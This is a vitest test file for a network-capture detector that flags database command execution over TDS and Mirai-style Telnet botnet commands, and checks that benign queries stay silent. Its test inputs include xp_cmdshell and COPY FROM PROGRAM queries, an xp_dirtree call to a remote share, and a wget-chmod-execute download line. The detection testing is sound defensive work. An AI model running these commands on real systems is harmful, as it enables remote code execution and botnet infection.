/** Commands by way of a database, and botnets over Telnet; queries and people are left alone. Words: Microsoft's page on xp_cmdshell, Mirai's source (scanner.c). */
import { describe, expect, test } from 'vitest';
import type { TdsQueryMessage } from '../../../src/pcap/dissectors/tds.ts';
import type { TelnetLineMessage } from '../../../src/pcap/dissectors/telnet.ts';
import { exploitAttempt } from '../../../src/analysis/detectors/registry.ts';
import { checkFilter } from '../../../src/analysis/filtering.ts';
import { MessageDriver } from '../../support/messageDriver.ts';

const sql = (query: string) => {
  const driver = new MessageDriver(exploitAttempt);
  return driver.say<TdsQueryMessage>(driver.flow('10.0.0.66', '10.0.0.3', 1433, 'tds'), { kind: 'tds-query', query }).findings;
};
const typed = (text: string) => {
  const driver = new MessageDriver(exploitAttempt);
  return driver.say<TelnetLineMessage>(driver.flow('203.0.113.9', '10.0.0.3', 23, 'telnet'), { kind: 'telnet-line', text }).findings;
};

describe('is told', () => {
  test.each([
    "EXEC master..xp_cmdshell 'whoami'",
    "exec xp_dirtree '\\\\203.0.113.9\\a'",
    "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
    "COPY t FROM PROGRAM 'id'",
  ])('%s', (query) => {
    const [finding, ...others] = sql(query);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({
      technique: 'database-commands',
      severity: 'high',
      subjects: [
        { role: 'attacker', address: '10.0.0.66' },
        { role: 'victim', address: '10.0.0.3', port: 1433 },
      ],
    });
    expect(checkFilter(finding!.filter)).toMatchObject({ ok: true });
  });
  test.each([
    '/bin/busybox MIRAI',
    'cd /tmp || cd /var/run; wget http://203.0.113.9/m.sh; chmod 777 m.sh; ./m.sh',
    '/bin/busybox tftp -g -l dvrHelper',
  ])('%s', (text) => expect(typed(text)).toMatchObject([{ technique: 'telnet-botnet', severity: 'high' }]));
});
describe('is silent on', () => {
  test.each([
    'SELECT name FROM sys.objects',
    "SELECT * FROM docs WHERE text LIKE '%xp_cmdshell%'",
    'EXEC sp_who2',
    "INSERT INTO log VALUES ('copy from program')",
  ])('%s', (query) => expect(sql(query)).toEqual([]));
  test.each(['show running-config', 'cd /tmp', 'wget http://example.org/firmware.bin', 'busybox ls', 'enable'])('%s', (text) =>
    expect(typed(text)).toEqual([]),
  );
});
